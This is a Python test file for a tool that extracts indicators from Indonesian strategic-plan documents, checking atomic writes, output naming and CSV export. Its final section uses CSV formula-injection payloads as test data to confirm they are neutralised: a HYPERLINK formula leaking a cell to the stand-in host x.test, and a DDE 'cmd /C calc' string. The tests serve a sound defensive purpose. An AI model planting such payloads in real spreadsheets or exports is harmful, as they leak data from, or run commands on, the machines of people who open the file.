from __future__ import annotations

import csv
import errno
import io
import itertools
import json
import os
from pathlib import Path

import pandas as pd
import pytest
from renstra.extract.batch import BOM
from renstra.extract.inputs import InputFile
from renstra.extract.job import csv_bytes
from renstra.extract.writers import atomic
from renstra.extract.writers.atomic import (
    AtomicFile,
    atomic_write_bytes,
    commit,
    commit_together,
    discard,
    open_atomic,
)
from renstra.extract.writers.csv_out import (
    FINDING_COLUMNS,
    INDICATOR_COLUMNS,
    finding_rows,
    indicator_rows,
)
from renstra.extract.writers.json_out import document_json, output_names
from renstra.schemas import (
    Document,
    Finding,
    Formula,
    Generator,
    Indicator,
    Organization,
    Period,
    Source,
    SourceLocation,
    Target,
)

NAME = 'Persentase "IKM", kecamatan'
"""A name with a comma and quotes, which CSV must quote and read back whole."""


def document() -> Document:
    first = Indicator(
        id="t1r4",
        number="1",
        name=NAME,
        unit="%",
        goal="Mewujudkan tata kelola\npemerintahan",
        objective="Meningkatnya kualitas pelayanan publik",
        polarity="higher-is-better",
        formula=Formula(
            raw="A / B x 100%", kind="ratio", numerator="A", denominator="B", multiplier=100.0
        ),
        baseline=Target(text="80,5 %", value=80.5, unit="%"),
        targets=[
            Target(
                year_index=1,
                year=2022,
                value=85.0,
                text="85 %",
                unit="%",
                provenance=SourceLocation(line=30, table=1, row=4, column=5),
            ),
            Target(year_index=2, year=2023, value=None, text="", kind="empty"),
        ],
        provenance=SourceLocation(line=30, table=1, row=4, column=4),
    )
    second = Indicator(
        id="t2r2",
        name="Presentase penanganan Konflik",
        provenance=SourceLocation(line=40, table=2, row=2, column=2),
    )
    return Document(
        generator=Generator(version="0.1.0"),
        source=Source(path="in/renstra.txt", format="txt", sha256="0" * 64, size_bytes=10),
        doc_type="renstra",
        organization=Organization(name="Kecamatan Metro Timur", region="Kota Metro"),
        period=Period(start=2022, end=2026, raw="2022-2026"),
        indicators=[first, second],
        findings=[
            Finding(
                rule="target-missing",
                severity="error",
                message=f"'{NAME}' has no target for year 2023.",
                location=SourceLocation(line=30, table=1, row=4, column=6),
                indicator_id="t1r4",
                tags=["#target"],
                fingerprint="7af5f4c2bdc9c9c2",
                description="A target column is empty.",
            )
        ],
    )


def write_csv(path: Path, columns: list[str], rows: list[list[object]]) -> None:
    """The bytes a batch writes for one document: the BOM and header, then its rows."""
    path.write_bytes(BOM + csv_bytes([columns]) + csv_bytes(rows))


# --- atomic writes ---------------------------------------------------------------------


def test_atomic_write_creates_folders_and_leaves_no_temp_file(tmp_path: Path) -> None:
    target = tmp_path / "out" / "sub" / "a.json"
    atomic_write_bytes(target, b"{}\n")
    assert target.read_bytes() == b"{}\n"
    assert os.listdir(target.parent) == ["a.json"]


def test_atomic_write_replaces_the_old_content(tmp_path: Path) -> None:
    target = tmp_path / "a.json"
    target.write_bytes(b"old")
    atomic_write_bytes(str(target), b"new")
    assert target.read_bytes() == b"new"


def test_a_failed_atomic_write_keeps_the_old_file_and_removes_its_temp(tmp_path: Path) -> None:
    target = tmp_path / "a.json"
    target.write_bytes(b"old")
    with pytest.raises(TypeError):
        atomic_write_bytes(target, "not bytes")  # type: ignore[arg-type]
    assert target.read_bytes() == b"old"
    assert os.listdir(tmp_path) == ["a.json"]


def test_an_atomic_write_goes_on_after_short_writes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_write = os.write
    sizes: list[int] = []

    def three_bytes_at_most(fd: int, data: memoryview) -> int:
        sizes.append(real_write(fd, data[:3]))
        return sizes[-1]

    monkeypatch.setattr(atomic.os, "write", three_bytes_at_most)
    atomic_write_bytes(tmp_path / "a.json", b'{"a": 12}\n')
    monkeypatch.undo()
    assert (tmp_path / "a.json").read_bytes() == b'{"a": 12}\n'
    assert sizes == [3, 3, 3, 1]


def test_a_write_error_keeps_the_old_file_and_removes_its_temp(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "a.json"
    target.write_bytes(b"old")

    def disk_full(fd: int, data: memoryview) -> int:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(atomic.os, "write", disk_full)
    with pytest.raises(OSError, match="No space left"):
        atomic_write_bytes(target, b"new")
    monkeypatch.undo()
    assert target.read_bytes() == b"old"
    assert os.listdir(tmp_path) == ["a.json"]


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
def test_atomic_files_get_the_mode_open_would_give_not_a_private_temp_mode(
    tmp_path: Path,
) -> None:
    old = os.umask(0o027)
    try:
        atomic_write_bytes(tmp_path / "a.json", b"{}")
        handle, temp = open_atomic(tmp_path / "b.csv")
        handle.close()
        commit(temp, tmp_path / "b.csv")
    finally:
        os.umask(old)
    assert (tmp_path / "a.json").stat().st_mode & 0o777 == 0o640
    assert (tmp_path / "b.csv").stat().st_mode & 0o777 == 0o640


def test_a_temp_file_left_by_a_killed_run_of_the_same_pid_is_stepped_over(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(atomic, "_counter", itertools.count(7))
    stale = tmp_path / f".a.json.{os.getpid()}-7.tmp"
    stale.write_bytes(b"half")
    atomic_write_bytes(tmp_path / "a.json", b"new")
    assert (tmp_path / "a.json").read_bytes() == b"new"
    assert stale.read_bytes() == b"half"
    assert sorted(os.listdir(tmp_path)) == sorted(["a.json", stale.name])


def test_open_atomic_is_invisible_until_commit(tmp_path: Path) -> None:
    target = tmp_path / "a.csv"
    handle, temp = open_atomic(target)
    with handle:
        handle.write(b"x")
    assert not target.exists()
    assert Path(temp).parent == tmp_path
    commit(temp, target)
    assert target.read_bytes() == b"x"
    assert os.listdir(tmp_path) == ["a.csv"]


def test_discard_drops_the_temp_file_and_tolerates_a_second_call(tmp_path: Path) -> None:
    handle, temp = open_atomic(tmp_path / "a.csv")
    handle.close()
    discard(temp)
    discard(temp)
    assert os.listdir(tmp_path) == []


# --- JSON ------------------------------------------------------------------------------


def test_document_json_round_trips(tmp_path: Path) -> None:
    data = document_json(document())
    assert data.endswith(b"}\n")
    assert Document.model_validate_json(data) == document()
    assert json.loads(data)["indicators"][0]["name"] == NAME


@pytest.mark.parametrize(
    ("inputs", "names"),
    [
        ([InputFile("in/renstra.txt", "renstra.txt")], {"in/renstra.txt": "renstra.json"}),
        (
            [InputFile("in/2021/iku.docx", "2021/iku.docx"), InputFile("in/x.pdf", "x.pdf")],
            {"in/2021/iku.docx": "2021/iku.json", "in/x.pdf": "x.json"},
        ),
        # same stem, different extension: both keep their extension
        (
            [InputFile("in/a.txt", "a.txt"), InputFile("in/a.docx", "a.docx")],
            {"in/a.txt": "a.txt.json", "in/a.docx": "a.docx.json"},
        ),
        # same stem in different folders does not collide
        (
            [InputFile("in/2021/a.txt", "2021/a.txt"), InputFile("in/2022/a.txt", "2022/a.txt")],
            {"in/2021/a.txt": "2021/a.json", "in/2022/a.txt": "2022/a.json"},
        ),
    ],
)
def test_output_names(inputs: list[InputFile], names: dict[str, str]) -> None:
    assert output_names(inputs) == names


def test_output_names_are_distinct_for_same_named_files_from_two_arguments() -> None:
    # renstra extract 2021/ 2022/  -> both folders hold renstra.txt (relative "renstra.txt")
    inputs = [
        InputFile("2021/renstra.txt", "renstra.txt"),
        InputFile("2022/renstra.txt", "renstra.txt"),
    ]
    names = output_names(inputs)
    assert len(set(names.values())) == 2


@pytest.mark.parametrize(
    "inputs",
    [
        # two files that every namer names alike: a/x.txt and ../a/x.txt from another folder
        [InputFile("a/x.txt", "x.txt"), InputFile("../a/x.txt", "x.txt")],
        # names that differ only in case collide on a case-insensitive file system
        [InputFile("in/A.txt", "A.txt"), InputFile("in/a.txt", "a.txt")],
        [InputFile("in/A.txt", "A.txt"), InputFile("in/a.txt", "a.txt"), InputFile("a", "a")],
        # what the numbering gives may be another input's own name
        [
            InputFile("a/x.txt", "x.txt"),
            InputFile("../a/x.txt", "x.txt"),
            InputFile("a/x.txt~2.txt", "x.txt~2.txt"),
        ],
    ],
)
def test_output_names_never_collide(inputs: list[InputFile]) -> None:
    names = output_names(inputs)
    assert len({name.casefold() for name in names.values()}) == len(inputs)


def test_output_names_number_what_still_collides() -> None:
    inputs = [InputFile("a/x.txt", "x.txt"), InputFile("../a/x.txt", "x.txt")]
    assert output_names(inputs) == {"a/x.txt": "a/x.txt.json", "../a/x.txt": "a/x.txt~2.json"}


@pytest.mark.parametrize(
    "relative",
    [
        ".renstra-run.txt",
        "summary.txt",
        "SUMMARY.md",
        "indicators.csv/x.txt",
        "Programs.CSV/x.txt",
        "summary.json/x.txt",
        ".renstra-run.json/x.txt",
        "datapackage.txt",
        "Documents.csv/x.txt",
    ],
)
def test_output_names_keep_out_of_the_batch_files_and_the_run_state(relative: str) -> None:
    reserved = {"summary.json", ".renstra-run.json", "indicators.csv", "findings.csv",
                "programs.csv", "documents.csv", "datapackage.json", "documents.jsonl",
                "findings.jsonl"}  # fmt: skip
    name = output_names([InputFile(f"in/{relative}", relative)])[f"in/{relative}"]
    assert name.split("/")[0].casefold() not in reserved


# --- CSV -------------------------------------------------------------------------------


def test_indicator_rows_are_long_form_one_per_target(tmp_path: Path) -> None:
    path = tmp_path / "indicators.csv"
    write_csv(path, INDICATOR_COLUMNS, list(indicator_rows(document())))
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert list(frame.columns) == INDICATOR_COLUMNS
    assert frame[["indicator_id", "year_index", "year", "target_text", "target_value",
                  "target_kind", "line", "row", "column"]].values.tolist() == [
        ["t1r4", "1", "2022", "85 %", "85", "number", "30", "4", "5"],
        # no provenance of its own: the indicator cell's
        ["t1r4", "2", "2023", "", "", "empty", "30", "4", "4"],
        # no targets: one row with the target columns blank
        ["t2r2", "", "", "", "", "", "40", "2", "2"],
    ]  # fmt: skip
    first = frame.iloc[0]
    assert first["source_path"] == "in/renstra.txt"
    assert (first["doc_type"], first["organization"], first["region"]) == (
        "renstra", "Kecamatan Metro Timur", "Kota Metro",
    )  # fmt: skip
    assert (first["period_start"], first["period_end"]) == ("2022", "2026")
    assert first["name"] == NAME
    assert first["goal"] == "Mewujudkan tata kelola\npemerintahan"
    assert (first["formula_kind"], first["formula_numerator"], first["formula_multiplier"]) == (
        "ratio", "A", "100",
    )  # fmt: skip
    assert (first["baseline_text"], first["baseline_value"]) == ("80,5 %", "80.5")
    assert frame.iloc[2]["polarity"] == "higher-is-better"
    assert frame.iloc[2]["unit"] == ""


def test_csv_reads_back_the_same_with_the_csv_module(tmp_path: Path) -> None:
    path = tmp_path / "indicators.csv"
    write_csv(path, INDICATOR_COLUMNS, list(indicator_rows(document())))
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == INDICATOR_COLUMNS
    assert len(rows) == 4
    assert all(len(row) == len(INDICATOR_COLUMNS) for row in rows)
    named = dict(zip(rows[0], rows[1], strict=True))
    assert named["name"] == NAME
    assert named["goal"] == "Mewujudkan tata kelola\npemerintahan"
    assert named["target_value"] == "85"


def test_csv_starts_with_a_utf8_bom_for_excel(tmp_path: Path) -> None:
    path = tmp_path / "findings.csv"
    write_csv(path, FINDING_COLUMNS, list(finding_rows(document())))
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfsource_path,rule,")
    assert data.count(b"\xef\xbb\xbf") == 1
    assert b"\r\n" in data  # csv's default line ending, which Excel expects


def test_finding_rows_read_back(tmp_path: Path) -> None:
    path = tmp_path / "findings.csv"
    write_csv(path, FINDING_COLUMNS, list(finding_rows(document())))
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert list(frame.columns) == FINDING_COLUMNS
    assert frame.values.tolist() == [
        ["in/renstra.txt", "target-missing", "error", f"'{NAME}' has no target for year 2023.",
         "", "t1r4", "", "30", "1", "4", "6", "", "", "7af5f4c2bdc9c9c2", "", "#target",
         "A target column is empty."],
    ]  # fmt: skip


def test_an_atomic_file_is_invisible_until_close_and_abort_leaves_nothing(tmp_path: Path) -> None:
    path = tmp_path / "indicators.csv"
    batch_file = AtomicFile(path)
    batch_file.write(csv_bytes(indicator_rows(document())))
    assert not path.exists()
    batch_file.abort()
    assert os.listdir(tmp_path) == []


def test_an_atomic_file_closed_holds_every_write_in_order(tmp_path: Path) -> None:
    path = tmp_path / "indicators.csv"
    batch_file = AtomicFile(path)
    batch_file.write(b"a,b\r\n")
    batch_file.write(b"1,2\r\n")
    batch_file.close()
    assert path.read_bytes() == b"a,b\r\n1,2\r\n"
    assert os.listdir(tmp_path) == ["indicators.csv"]


def test_an_atomic_file_aborted_keeps_the_previous_file(tmp_path: Path) -> None:
    path = tmp_path / "findings.csv"
    path.write_bytes(b"old")
    batch_file = AtomicFile(path)
    batch_file.write(csv_bytes(finding_rows(document())))
    batch_file.abort()
    assert path.read_bytes() == b"old"
    assert os.listdir(tmp_path) == ["findings.csv"]


def test_an_empty_batch_still_writes_the_header(tmp_path: Path) -> None:
    path = tmp_path / "indicators.csv"
    write_csv(path, INDICATOR_COLUMNS, [])
    frame = pd.read_csv(path)
    assert list(frame.columns) == INDICATOR_COLUMNS
    assert len(frame) == 0


# --- committing several files together --------------------------------------------------


def sealed(folder: Path, contents: dict[str, bytes]) -> list[AtomicFile]:
    files = []
    for name, data in contents.items():
        files.append(AtomicFile(folder / name))
        files[-1].write(data)
        files[-1].seal()
    return files


def test_files_committed_together_all_land_and_leave_nothing_else(tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_bytes(b"old a")
    commit_together(sealed(tmp_path, {"a.csv": b"new a", "b.csv": b"new b"}))
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == {
        "a.csv": b"new a",
        "b.csv": b"new b",
    }


@pytest.mark.parametrize("hard_links", [True, False])
def test_a_failed_rename_puts_back_every_file_renamed_before_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, hard_links: bool
) -> None:
    """With hard links the old files stay in place meanwhile; without (some network and
    FAT file systems) they are moved aside and moved back."""
    (tmp_path / "a.csv").write_bytes(b"old a")
    (tmp_path / "c.json").write_bytes(b"old c")
    files = sealed(tmp_path, {"a.csv": b"new a", "b.csv": b"new b", "c.json": b"new c"})
    real = os.replace
    if not hard_links:

        def no_link(*args: object, **kwargs: object) -> None:
            raise OSError(errno.EPERM, "Operation not permitted")

        monkeypatch.setattr(os, "link", no_link)

    def replace(source: str, target: str | Path) -> None:
        if source.endswith(".tmp") and os.fspath(target).endswith("c.json"):
            raise OSError(errno.ENOSPC, "No space left on device")
        real(source, target)

    monkeypatch.setattr(os, "replace", replace)
    with pytest.raises(OSError, match="No space left"):
        commit_together(files)
    for file in files:
        file.abort()
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == {
        "a.csv": b"old a",
        "c.json": b"old c",
    }


def test_a_target_that_is_a_folder_is_refused_before_anything_is_renamed(tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_bytes(b"old a")
    (tmp_path / "summary.json").mkdir()
    files = sealed(tmp_path, {"a.csv": b"new a", "summary.json": b"{}"})
    with pytest.raises(IsADirectoryError):
        commit_together(files)
    for file in files:
        file.abort()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "summary.json"]
    assert (tmp_path / "a.csv").read_bytes() == b"old a"


# --- formula injection -------------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://x.test/?"&A1,"klik")'
HOSTILE_RENSTRA = (
    "RENCANA STRATEGIS DINAS PENDIDIKAN KABUPATEN CONTOH TAHUN 2021-2025\n\n"
    "NO.\tINDIKATOR\tSATUAN\t2021\t2022\t2023\t2024\t2025\n"
    f"1\t{FORMULA_NAME}\t%\t-5\t+2%\t@SUM(1)\t-1,5\t=1+1\n"
    "2\tPersentase sekolah terakreditasi\t%\t-\t10\t20\t30\t40\n"
)
"""A table whose cells a spreadsheet would run (a name and two targets), beside negative
targets, a change (``+2%``) and a ``-`` placeholder, which are no formula."""


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA_NAME, "'" + FORMULA_NAME),
        ("=1+1", "'=1+1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("+E1", "'+E1"),  # a reference
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),  # DDE
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("- 5", "'- 5"),
        # plain numbers, signed: no letter, reference or operator but the sign
        ("-5", "-5"),
        ("+2%", "+2%"),
        ("-1,5", "-1,5"),
        ("-1.234,56", "-1.234,56"),
        ("-1e-05", "-1e-05"),  # the target_value column writes small numbers so
        ("-", "-"),  # the placeholder many tables write
        ("Persentase (%)", "Persentase (%)"),
        (5, 5),
    ],
)
def test_a_csv_cell_that_would_run_as_a_formula_gets_a_quote(cell: object, written: str) -> None:
    data = csv_bytes([[cell]]).decode("utf-8")
    assert next(csv.reader(io.StringIO(data))) == [str(written)]


def test_extract_neutralises_formulas_in_the_csvs_and_keeps_the_json_exact(
    tmp_path: Path,
) -> None:
    from renstra.extract.cli import app
    from typer.testing import CliRunner

    source = tmp_path / "renstra.txt"
    source.write_text(HOSTILE_RENSTRA, encoding="utf-8")
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["extract", str(source), "-o", str(out), "-q"])
    assert result.exit_code == 0, result.output
    document = json.loads((out / "renstra.json").read_bytes())
    first = document["indicators"][0]
    assert first["name"] == FORMULA_NAME
    assert [t["text"] for t in first["targets"]] == ["-5", "+2%", "@SUM(1)", "-1,5", "=1+1"]
    with open(out / "indicators.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["name"] for row in rows[:5]} == {"'" + FORMULA_NAME}
    assert [row["target_text"] for row in rows] == [
        "-5", "+2%", "'@SUM(1)", "-1,5", "'=1+1", "-", "10", "20", "30", "40",
    ]  # fmt: skip
    assert [row["target_value"] for row in rows[:5]] == ["-5", "2", "", "-1.5", ""]
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in cells)
    frame = pd.read_csv(out / "indicators.csv")
    assert frame["target_value"].dtype.kind == "f"  # the negative targets stay numbers
